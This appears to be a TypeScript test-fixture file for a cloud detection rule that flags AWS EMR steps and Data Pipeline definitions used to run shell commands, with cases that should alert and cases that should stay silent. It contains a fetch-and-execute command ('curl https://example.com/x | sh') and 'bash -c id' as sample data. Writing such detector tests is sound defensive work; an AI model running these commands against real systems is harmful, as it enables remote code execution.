import type { JsonObject } from '../../shared/core/json.ts'
import { apiCall } from '../../test/events.ts'
import { defineExamples } from '../../test/examples.ts'

const define = (fields: readonly JsonObject[], record: JsonObject = {}) =>
  apiCall('datapipeline:PutPipelineDefinition', {
    requestParameters: { pipelineId: 'df-0123456789ABCDEFGHI', pipelineObjects: [{ id: 'Run', name: 'Run', fields }] },
    ...record,
  })

const shell = [
  { key: 'type', stringValue: 'ShellCommandActivity' },
  { key: 'command', stringValue: 'curl https://example.com/x | sh' },
  { key: 'runsOn', refValue: 'Machine' },
]

const step = (jar: string, args: readonly string[]) =>
  apiCall('elasticmapreduce:AddJobFlowSteps', {
    requestParameters: { jobFlowId: 'j-1ABCDEFGHIJKL', steps: [{ name: 'orders', hadoopJarStep: { jar, args } }] },
  })

export default defineExamples({
  fires: [
    {
      event: step('command-runner.jar', ['bash', '-c', 'id']),
      title: 'alice made EMR cluster j-1ABCDEFGHIJKL run commands',
      severity: 'medium',
    },
    {
      event: step('s3://us-east-1.elasticmapreduce/libs/script-runner/script-runner.jar', ['s3://main/start.sh']),
      title: 'alice made EMR cluster j-1ABCDEFGHIJKL run commands',
      severity: 'medium',
    },
    { event: define(shell), title: 'alice made data pipeline df-0123456789ABCDEFGHI run commands', severity: 'medium' },
    {
      event: define(shell, { userAgent: 'APN/1.0 HashiCorp/1.0 Terraform/1.9.8' }),
      title: 'alice made data pipeline df-0123456789ABCDEFGHI run commands',
      severity: 'low',
    },
    {
      event: define([
        { key: 'type', stringValue: 'EmrActivity' },
        { key: 'step', stringValue: 's3://example/job.jar' },
      ]),
      title: 'alice made data pipeline df-0123456789ABCDEFGHI run commands',
    },
    {
      event: define([
        { key: 'type', stringValue: 'EmrCluster' },
        { key: 'bootstrapAction', stringValue: 's3://example/start.sh' },
      ]),
      title: 'alice made data pipeline df-0123456789ABCDEFGHI run commands',
    },
  ],
  silent: [
    {
      event: step('command-runner.jar', ['spark-submit', 's3://main/orders.py']),
      because: 'it is what a cluster is for',
    },
    {
      event: define([{ key: 'type', stringValue: 'CopyActivity' }]),
      because: 'it only copies data',
    },
    { event: define(shell, { errorCode: 'InvalidRequestException' }), because: 'AWS refused it' },
  ],
})
